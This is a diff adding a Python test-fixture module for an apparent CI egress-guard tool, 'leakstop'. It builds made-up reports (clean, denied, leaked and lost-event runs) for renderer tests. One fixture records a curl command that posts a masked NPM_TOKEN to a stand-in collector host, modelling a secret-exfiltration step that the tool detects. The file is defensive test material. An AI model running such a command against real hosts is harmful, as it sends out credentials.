@@ -1,0 +1,462 @@
+# SPDX-License-Identifier: MIT
+"""Reports of made-up jobs, one for each thing that a renderer must be able to tell."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from ipaddress import ip_network
+
+from leakstop.errors import ExitCode
+from leakstop.model.finding import Finding, Severity
+from leakstop.model.flow import Transport
+from leakstop.model.process import ProcessView
+from leakstop.model.report import Coverage, FlowRecord, Job, PolicyView, Report, SecretView
+from leakstop.model.verdict import Action, Leak, Mode, Reason, RuleRef
+from leakstop.policy.rules import AddressPlace, NamePlace, PortRange, Protocol, Reach, Rule
+from leakstop.report.vocabulary import Vocabulary
+
+START_S = 1_795_226_400.0
+"""2026-11-21 02:00:00 UTC."""
+OFFSET_NS = 5_000_000_000
+"""Boot clock at the start."""
+
+
+def at(minutes: float) -> int:
+    """A boot-clock time stamp, minutes after the start."""
+    return OFFSET_NS + int(minutes * 60e9)
+
+
+def process(path: str, *ancestry: str, pid: int = 4711, argv: tuple[str, ...] = ()) -> ProcessView:
+    return ProcessView(pid=pid, exe=path, argv=argv or (path,), ancestry=ancestry)
+
+
+BASH = "/usr/bin/bash"
+WORKER = "/home/runner/runners/bin/Runner.Worker"
+CURL = process("/usr/bin/curl", BASH, WORKER)
+GIT = process("/usr/bin/git", "/usr/bin/node", WORKER)
+PIP = process("/usr/bin/pip", BASH, WORKER)
+
+RUNNER = RuleRef(text="**.runner.test", source="built in", via="runner")
+PYTHON = RuleRef(text="registry:pip", source=".github/leakstop.yml", line=5, via="registry:pip")
+API = RuleRef(text="api.example.test", source=".github/leakstop.yml", line=7)
+
+
+def flow(
+    destination: str,
+    program: ProcessView = CURL,
+    step: str = "Test",
+    *,
+    rule: RuleRef | None = None,
+    denied: bool = False,
+    protocol: Transport = Transport.TCP,
+    reason: Reason | None = None,
+    count: int = 1,
+    minute: float = 1,
+    ip: str = "192.0.2.10",
+    **more: object,
+) -> FlowRecord:
+    """A flow to ``host:port``, named when it has a rule, let go unless ``denied``."""
+    host, _, port = (
+        destination.rpartition(":")
+        if protocol is not Transport.DNS
+        else (
+            destination,
+            "",
+            "0",
+        )
+    )
+    allowed = rule is not None and reason is not Reason.DENY_RULE
+    record = FlowRecord(
+        host=host,
+        ip=ip,
+        port=int(port),
+        protocol=protocol,
+        process=program,
+        step=step,
+        policy_verdict=Action.ALLOW if allowed else Action.DENY,
+        applied=Action.DENY if denied else Action.ALLOW,
+        reason=reason or (Reason.ALLOW_RULE if allowed else Reason.NOT_NAMED),
+        rule=rule,
+        count=count,
+        first_ns=at(minute),
+    )
+    return replace(record, **more)  # type: ignore[arg-type]
+
+
+RUNNER_FLOWS = tuple(
+    flow(f"{name}.runner.test:443", process(WORKER), "", rule=RUNNER, ip="198.51.100.7")
+    for name in ("broker", "results", "pipelines", "vault", "logs", "telemetry")
+)
+NAMED_FLOWS = (
+    flow("index.mirror.test:8443", PIP, "Install", rule=PYTHON),
+    flow("files.mirror.test:8443", PIP, "Install", rule=PYTHON, count=14),
+    flow("api.example.test:443", process("/usr/bin/curl", "/usr/bin/pytest"), rule=API, count=3),
+)
+
+GITHUB_TOKEN = SecretView("GITHUB_TOKEN", ("github",), "job token", "", "format", True)
+NPM_TOKEN = SecretView(
+    "NPM_TOKEN", ("publish:npm",), "npm token", "https://docs.vendor.test/revoke", "format"
+)
+CLOUD_KEY = SecretView("CLOUD_KEY", ("nowhere",), "", "", "policy")
+DEPLOY_TOKEN = SecretView("DEPLOY_TOKEN", (), "", "")
+COVERAGE_TOKEN = SecretView("COVERAGE_TOKEN", ("coverage.example.test",), "", "", "policy")
+
+POLICY = PolicyView(
+    digest="sha256:4f1c9a02" + 56 * "0",
+    sources=(".github/leakstop.yml",),
+    canonical={
+        "mode": "audit",
+        "rules": [
+            {"source": "built in", "via": "runner", "names": [["**.runner.test", 3, "x"]]},
+            {"source": ".github/leakstop.yml", "via": "", "names": [["api.example.test", 7, "x"]]},
+        ],
+    },
+)
+NO_POLICY = PolicyView(
+    digest="sha256:00c0ffee" + 56 * "0",
+    sources=(),
+    canonical={"mode": "audit", "rules": [{"source": "built in", "via": "runner"}]},
+)
+INPUT_POLICY = replace(POLICY, sources=("input `allow`",))
+JOB = Job(
+    name="build",
+    workflow="ci.yml",
+    repository="acme/web",
+    sha="9c1e2ab0" * 5,
+    run_id="4242",
+    action_ref="acme/leakstop@v1.2.0",
+    event="push",
+)
+KERNEL = Coverage(sensor="kernel", complete=True, lost_events=0)
+
+CLEAN = Report(
+    verdict="pass",
+    exit_code=ExitCode.CLEAN,
+    mode=Mode.AUDIT,
+    leak=Leak.KILL,
+    policy=POLICY,
+    coverage=KERNEL,
+    findings=(),
+    flows=(*RUNNER_FLOWS, *NAMED_FLOWS),
+    secrets=(GITHUB_TOKEN, COVERAGE_TOKEN),
+    job=JOB,
+    started_s=START_S,
+    finished_s=START_S + 750.5,
+    version="0.1.0",
+    offset_ns=OFFSET_NS,
+)
+"""A clean audit run."""
+
+CLEAN_BLOCK = replace(CLEAN, mode=Mode.BLOCK)
+
+
+def _rule(name: str, reach: Reach = Reach.EXACT) -> Rule:
+    ref = RuleRef(text=name, source="built in")
+    place = NamePlace(name, reach)
+    return Rule(Action.ALLOW, place, Protocol.TLS, (PortRange(443, 443),), ref)
+
+
+VOCABULARY = Vocabulary(
+    presets={
+        "github": (
+            _rule("git.forge.test"),
+            _rule("forge.test", Reach.DEEP),
+            Rule(
+                Action.ALLOW,
+                AddressPlace(ip_network("192.0.2.0/24")),
+                Protocol.TLS,
+                (PortRange(443, 443),),
+                RuleRef(text="192.0.2.0/24", source="built in"),
+            ),
+        ),
+        "public-sinks": (_rule("store.test", Reach.DEEP),),
+    },
+    indexes={
+        "registry:pip": ("https://index.mirror.test:8443", "https://files.mirror.test:8443"),
+        "registry:apt": ("http://deb.mirror.test:80",),
+    },
+)
+
+UNNAMED = replace(
+    CLEAN,
+    policy=NO_POLICY,
+    secrets=(GITHUB_TOKEN, DEPLOY_TOKEN),
+    job=replace(JOB, unguarded=("publish", "docs")),
+    flows=(
+        *RUNNER_FLOWS,
+        flow("api.forge.test:443", GIT, "Checkout"),
+        flow("git.forge.test:443", GIT, "Checkout", count=2),
+        flow("index.mirror.test:8443", PIP, "Install"),
+        flow("files.mirror.test:8443", PIP, "Install", count=20),
+        flow("deb.mirror.test:80", process("/usr/bin/apt-get", BASH), "Install libs"),
+        flow("coverage.example.test:443", CURL, "Upload coverage"),
+        flow("cdn.fonts.test:443", process("/opt/chromium", "/usr/bin/node"), "Test"),
+        flow("db.example.test:5432", process("/usr/bin/psql", BASH), "Test"),
+        flow("time.example.test:123", process("/usr/bin/ntpdate", BASH), protocol=Transport.UDP),
+        flow("_ldap.example.test", protocol=Transport.DNS, ip=""),
+        flow("acmebuild7.store.test:443", GIT, "Save cache", sink=True),
+        flow("deploy.example.test:443", CURL, "Deploy", secrets=("DEPLOY_TOKEN",)),
+        flow("old.example.test:80", CURL, "Deploy"),
+        flow(
+            ":0",
+            process("/usr/bin/ping6", BASH),
+            "Deploy",
+            ip="2001:db8::1",
+            protocol=Transport.OTHER,
+            reason=Reason.PROTOCOL,
+        ),
+        flow(":8080", CURL, "Deploy", ip="203.0.113.9"),
+    ),
+)
+"""An audit run without a policy."""
+
+LEAK_FINDING = Finding(
+    id="secret-in-argv",
+    severity=Severity.CRITICAL,
+    title="A secret was on the command line of a program that went elsewhere",
+    process=process(
+        "/usr/bin/curl",
+        BASH,
+        WORKER,
+        argv=("curl", "-d", "t=***NPM_TOKEN***", "https://collector.example.test/c"),
+    ),
+    destination="collector.example.test:443",
+    secret="NPM_TOKEN",
+    encoding="raw",
+    step="Collect metrics",
+    action_taken="The connection was refused in the kernel and the program was killed.",
+    what_to_do="Rotate `NPM_TOKEN` and find out who wrote this step.",
+    ts_ns=at(11.15),
+    bytes_left=0,
+)
+_LEAK_FLOW = flow(
+    "collector.example.test:443",
+    LEAK_FINDING.process,
+    "Collect metrics",
+    denied=True,
+    reason=Reason.LEAK,
+    minute=11.15,
+)
+STOPPED = replace(
+    CLEAN,
+    verdict="fail",
+    exit_code=ExitCode.FINDINGS,
+    findings=(LEAK_FINDING,),
+    flows=(
+        *CLEAN.flows,
+        flow("api.example.test:443", CURL, "Collect metrics", rule=API, minute=11),
+        _LEAK_FLOW,
+    ),
+    secrets=(GITHUB_TOKEN, CLOUD_KEY, NPM_TOKEN),
+    job=replace(JOB, name="release", workflow="release.yml"),
+)
+"""GhostAction, stopped."""
+
+LEAKED = replace(
+    STOPPED,
+    leak=Leak.FAIL,
+    findings=(
+        replace(
+            LEAK_FINDING,
+            bytes_left=None,
+            action_taken="It was let go, because the policy says `leak: fail`.",
+        ),
+        replace(
+            LEAK_FINDING,
+            secret="CLOUD_KEY",
+            encoding="base64",
+            what_to_do="Rotate `CLOUD_KEY`.",
+            ts_ns=at(12),
+            count=3,
+        ),
+    ),
+    flows=(*CLEAN.flows, replace(_LEAK_FLOW, applied=Action.ALLOW)),
+)
+"""The same with ``leak: fail``."""
+
+DENIED = replace(
+    CLEAN_BLOCK,
+    verdict="fail",
+    exit_code=ExitCode.DENIED,
+    findings=(
+        Finding(
+            id="denied-flow",
+            severity=Severity.HIGH,
+            title="A host was denied",
+            process=process("/usr/bin/gh", BASH, WORKER),
+            destination="uploads.example.test",
+            secret="",
+            encoding="",
+            step="Upload assets",
+            action_taken="Refused in the kernel.",
+            what_to_do="Add the host to the policy, or find out who wanted it.",
+            ts_ns=at(12),
+            count=3,
+        ),
+    ),
+    flows=(
+        *CLEAN.flows,
+        flow(
+            "registry.example.test:443",
+            process("/usr/bin/npm", BASH),
+            "Publish",
+            rule=RuleRef("publish:npm", ".github/leakstop.yml", 11, "publish:npm"),
+            minute=11,
+        ),
+        flow(
+            "uploads.example.test",
+            process("/usr/bin/gh", BASH, WORKER),
+            "Upload assets",
+            denied=True,
+            protocol=Transport.DNS,
+            ip="",
+            count=3,
+            minute=12,
+        ),
+    ),
+    job=replace(JOB, name="release", workflow="release.yml"),
+)
+"""One host denied in block mode."""
+
+FORK = replace(DENIED, job=replace(DENIED.job, fork=True, event="pull_request"))
+"""The same in a fork's pull request."""
+
+DENIED_MANY = replace(
+    DENIED,
+    policy=INPUT_POLICY,
+    flows=(
+        *DENIED.flows,
+        flow(":80", process("/tmp/x", BASH), "Test", denied=True, ip="203.0.113.9", count=2),
+        flow(
+            "telemetry.example.test:443",
+            CURL,
+            denied=True,
+            rule=RuleRef("**.telemetry.example.test", ".github/leakstop.yml", 9),
+            reason=Reason.DENY_RULE,
+        ),
+        flow("drop.store.test:443", CURL, "Test", denied=True, sink=True),
+        flow(
+            "stats.vendor.test:443",
+            CURL,
+            denied=True,
+            quiet=True,
+            rule=RuleRef("stats.vendor.test", ".github/leakstop.yml", 10),
+            reason=Reason.DENY_RULE,
+        ),
+    ),
+)
+"""Several hosts denied, for different reasons."""
+
+PARTLY = replace(
+    CLEAN,
+    coverage=Coverage(
+        sensor="portable",
+        complete=True,
+        lost_events=0,
+        notes=(
+            "Programs that live less than a quarter of a second may be missing.",
+            "What is inside TLS was not inspected.",
+        ),
+    ),
+)
+"""A job in a container."""
+
+DIED = replace(
+    CLEAN_BLOCK,
+    verdict="fail",
+    exit_code=ExitCode.COVERAGE,
+    coverage=Coverage(
+        sensor="kernel",
+        complete=False,
+        lost_events=0,
+        notes=("The agent ended before the guard was taken down.",),
+        agent_died=True,
+    ),
+)
+"""The agent was killed."""
+
+LOST = replace(
+    CLEAN_BLOCK,
+    verdict="fail",
+    exit_code=ExitCode.COVERAGE,
+    coverage=Coverage(
+        sensor="kernel",
+        complete=False,
+        lost_events=1234,
+        notes=("1234 events lost (counter `events`).",),
+    ),
+)
+"""Events were lost in block mode."""
+
+COMMAND = replace(
+    UNNAMED,
+    job=Job(),
+    flows=(
+        flow("api.example.test:443", CURL, ""),
+        flow("postgres:5432", process("/usr/bin/psql", BASH), ""),
+    ),
+)
+"""``leakstop run`` in somebody's shell."""
+
+OTHER = replace(
+    CLEAN,
+    findings=(
+        Finding(
+            id="detector-error",
+            severity=Severity.MEDIUM,
+            title="A detector failed",
+            process=process("/usr/bin/python3"),
+            destination="",
+            secret="",
+            encoding="",
+            step="Test",
+            action_taken="It was switched off after `3` tries.",
+            what_to_do="Report this at <the project>, with events.ndjson.",
+            ts_ns=at(2),
+            failing=False,
+        ),
+    ),
+)
+"""A finding without a section of its own."""
+
+MORE = replace(UNNAMED, policy=POLICY, flows=(*UNNAMED.flows, *NAMED_FLOWS))
+"""An audit run with a policy file that does not name everything."""
+
+HOMELESS = replace(
+    CLEAN,
+    secrets=(GITHUB_TOKEN, DEPLOY_TOKEN),
+    findings=(
+        replace(
+            LEAK_FINDING,
+            id="secret-unplaced",
+            severity=Severity.INFO,
+            secret="DEPLOY_TOKEN",
+            destination="api.example.test:443",
+            bytes_left=None,
+        ),
+    ),
+    flows=(*CLEAN.flows, flow("api.example.test:443", rule=API, secrets=("DEPLOY_TOKEN",))),
+)
+"""A secret that nobody has placed went to a host that the policy names."""
+
+MORE_INPUT = replace(MORE, policy=INPUT_POLICY)
+"""The same with a policy in the step."""
+
+CASES: dict[str, Report] = {
+    "clean": CLEAN,
+    "clean-block": CLEAN_BLOCK,
+    "command": COMMAND,
+    "denied": DENIED,
+    "denied-fork": FORK,
+    "denied-many": DENIED_MANY,
+    "died": DIED,
+    "homeless": HOMELESS,
+    "leaked": LEAKED,
+    "lost": LOST,
+    "more": MORE,
+    "more-input": MORE_INPUT,
+    "other": OTHER,
+    "partly": PARTLY,
+    "stopped": STOPPED,
+    "unnamed": UNNAMED,
+}
